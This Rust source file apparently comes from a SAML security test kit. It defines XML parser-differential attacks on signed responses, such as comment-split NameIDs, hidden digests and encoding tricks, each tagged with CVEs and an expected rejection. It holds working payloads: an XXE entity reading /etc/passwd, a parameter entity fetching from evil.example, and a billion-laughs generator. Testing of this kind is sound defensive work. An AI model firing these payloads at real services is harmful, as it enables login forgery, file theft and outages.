//! Markup that two parsers, or a parser and a canonicaliser, read differently.

use super::stage::Stage;
use super::{Attack, Posting, VICTIM};
use crate::error::TestkitError;
use crate::xml::{insert_after, insert_before, replace};

const COMMENT: &str = "CVE-2017-11427 to 11430, CVE-2018-0489: text nodes split by a comment";
const DOCTYPE: &str = "CVE-2025-23369, CVE-2025-25291: what a DOCTYPE declares, one parser sees";
const FOREIGN: &str = r#"<x xmlns="urn:example:x">AAAA</x>"#;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::forged(
        "comment_in_name_id",
        "Splits the attacker's own NameID with a comment, so that its start alone is read.",
        COMMENT,
        "xml_comment_in_message",
        |stage| split_name_id(stage, "<!---->", ""),
    ),
    Attack::forged(
        "processing_instruction_in_name_id",
        "Splits the attacker's own NameID with a processing instruction.",
        COMMENT,
        "xml_processing_instruction_in_message",
        |stage| split_name_id(stage, "<?x?>", ""),
    ),
    Attack::forged(
        "cdata_in_name_id",
        "Puts the end of the attacker's own NameID into a CDATA section.",
        COMMENT,
        "xml_cdata_in_message",
        |stage| split_name_id(stage, "<![CDATA[", "]]>"),
    ),
    Attack::forged(
        "element_in_name_id",
        "Splits the attacker's own NameID with an element.",
        COMMENT,
        "signature_digest_mismatch",
        |stage| split_name_id(stage, FOREIGN, ""),
    ),
    Attack::forged(
        "signed_element_in_name_id",
        "The provider itself signs a NameID that an element splits.",
        COMMENT,
        "name_id_characters",
        |stage| {
            let mut draft = stage.victim();
            draft.assertion =
                insert_after(&draft.assertion, VICTIM, &[FOREIGN, ".attacker.example"].concat())?;
            draft.assertion = stage.idp().sign_element(&draft.assertion)?;
            Ok(draft.assemble().into())
        },
    ),
    Attack::forged(
        "comment_in_digest_value",
        "Hides a second digest in the DigestValue by a comment.",
        "CVE-2025-29775",
        "xml_comment_in_message",
        |stage| {
            let signed = stage.signed()?.assertion;
            let start = "<ds:DigestValue>";
            Ok(stage.replaced(insert_after(&signed, start, "<!--AAAA-->")?))
        },
    ),
    Attack::forged(
        "element_in_digest_value",
        "Hides a second digest in the DigestValue by an element.",
        "CVE-2025-29775",
        "signature_malformed_value",
        |stage| {
            let signed = stage.signed()?.assertion;
            let start = "<ds:DigestValue>";
            Ok(stage.replaced(insert_after(&signed, start, FOREIGN)?))
        },
    ),
    Attack::forged(
        "comment_after_the_root",
        "Sends a comment after the document.",
        "content outside of what is signed",
        "xml_comment_in_message",
        |stage| Ok([stage.signed()?.assemble(), "<!-- -->".to_owned()].concat().into()),
    ),
    Attack::forged(
        "external_entity",
        "Declares an external entity and uses it in the response.",
        "XXE: CVE-2013-6440, CVE-2026-28809",
        "xml_doctype",
        |stage| doctype(stage, r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#, "&x;"),
    ),
    Attack::forged(
        "parameter_entity",
        "Declares an external parameter entity and expands it in the DOCTYPE.",
        "XXE: CVE-2013-6440, CVE-2026-28809",
        "xml_doctype",
        |stage| {
            let declared = r#"<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>"#;
            doctype(stage, declared, "")
        },
    ),
    Attack::forged(
        "billion_laughs",
        "Declares entities that expand to a billion characters.",
        "entity expansion: CVE-2025-46573",
        "xml_doctype",
        |stage| {
            let mut declared = r#"<!DOCTYPE r [<!ENTITY e0 "ha">"#.to_owned();
            for level in 1..30 {
                let below = format!("&e{};", level - 1).repeat(2);
                declared.push_str(&format!(r#"<!ENTITY e{level} "{below}">"#));
            }
            doctype(stage, &[declared.as_str(), "]>"].concat(), "&e29;")
        },
    ),
    Attack::forged(
        "doctype_alone",
        "Sends a DOCTYPE that declares nothing.",
        DOCTYPE,
        "xml_doctype",
        |stage| doctype(stage, "<!DOCTYPE Response>", ""),
    ),
    Attack::forged(
        "doctype_declares_ids",
        "Declares in a DOCTYPE that another attribute is an id.",
        DOCTYPE,
        "xml_doctype",
        |stage| doctype(stage, "<!DOCTYPE r [<!ATTLIST Assertion x ID #IMPLIED>]>", ""),
    ),
    Attack::forged(
        "entity_that_is_not_declared",
        "Uses an entity that only a DTD could declare.",
        DOCTYPE,
        "xml_unknown_reference",
        |stage| doctype(stage, "", "&nbsp;"),
    ),
    Attack::harmless(
        "name_id_by_character_references",
        "Writes a character of the NameID as a reference, which canonicalisation undoes.",
        "what canonicalisation equates is equal",
        |stage| {
            let signed = stage.signed()?.assertion;
            let name_id = &stage.user().name_id;
            Ok(stage.replaced(replace(&signed, name_id, &name_id.replace('@', "&#x40;"))?))
        },
    ),
    Attack::harmless(
        "tags_written_otherwise",
        "Writes quotes, spaces and empty elements in another way, which canonicalisation undoes.",
        "what canonicalisation equates is equal",
        |stage| {
            let signed = stage.signed()?.assertion;
            let signed = signed.replace(r#"Version="2.0">"#, "Version  =\n '2.0'  >");
            Ok(stage.replaced(signed.replace("Issuer>", "Issuer\n>")))
        },
    ),
    Attack::harmless(
        "byte_order_mark",
        "Sends a byte-order mark before the document.",
        "offsets that shift",
        |stage| Ok(["\u{feff}".to_owned(), stage.signed()?.assemble()].concat().into()),
    ),
    Attack::forged(
        "utf_16",
        "Sends the document in UTF-16.",
        "encodings that filters do not see through",
        "xml_not_utf8",
        |stage| {
            let xml = stage.signed()?.assemble();
            let mark = [0xff, 0xfe];
            let bytes = xml.encode_utf16().flat_map(u16::to_le_bytes);
            Ok(Posting::of_bytes(&mark.into_iter().chain(bytes).collect::<Vec<u8>>()))
        },
    ),
    Attack::forged(
        "declared_as_latin_1",
        "Declares another encoding than the bytes are in.",
        "encodings that filters do not see through",
        "xml_not_utf8",
        |stage| {
            let declaration = r#"<?xml version="1.0" encoding="ISO-8859-1"?>"#;
            Ok([declaration.to_owned(), stage.signed()?.assemble()].concat().into())
        },
    ),
    Attack::forged(
        "xml_1_1",
        "Declares XML 1.1, which has other line ends and characters.",
        "two parsers, two readings",
        "xml_not_version_1_0",
        |stage| {
            let declaration = r#"<?xml version="1.1"?>"#;
            Ok([declaration.to_owned(), stage.signed()?.assemble()].concat().into())
        },
    ),
    Attack::forged(
        "name_with_two_colons",
        "Uses a name with two colons, which some parsers read as another one when they write it.",
        "CVE-2020-29509 to 29511: names that change in a round trip",
        "xml_malformed_name",
        |stage| stage.beside(r#"<a:b:c xmlns:a="urn:example:a"/>"#),
    ),
    Attack::forged(
        "directive_in_the_document",
        "Puts a markup declaration into the document.",
        "CVE-2020-29511: directives that change in a round trip",
        "xml_malformed_markup",
        |stage| stage.beside("<!x <!-- -->>"),
    ),
    Attack::forged(
        "prefix_that_is_not_declared",
        "Uses a prefix that nothing declares.",
        "CVE-2025-66567: namespaces that two parsers resolve differently",
        "xml_unbound_prefix",
        |stage| stage.beside("<nobody:x/>"),
    ),
];

/// The attacker's own NameID begins with the victim's; `open` goes between, `close` behind.
fn split_name_id(stage: &Stage<'_>, open: &str, close: &str) -> Result<Posting, TestkitError> {
    let own = [VICTIM, ".attacker.example"].concat();
    let mut draft = stage.named(&own);
    let signed = stage.idp().sign_element(&draft.assertion)?;
    let split = [VICTIM, open, ".attacker.example", close].concat();
    draft.assertion = replace(&signed, &own, &split)?;
    Ok(draft.assemble().into())
}

fn doctype(stage: &Stage<'_>, declared: &str, used: &str) -> Result<Posting, TestkitError> {
    let p = stage.p();
    let mut draft = stage.signed()?;
    let message = format!("<{p}StatusMessage>{used}</{p}StatusMessage>");
    draft.status = insert_before(&draft.status, &format!("</{p}Status>"), &message)?;
    Ok([declared, &draft.assemble()].concat().into())
}
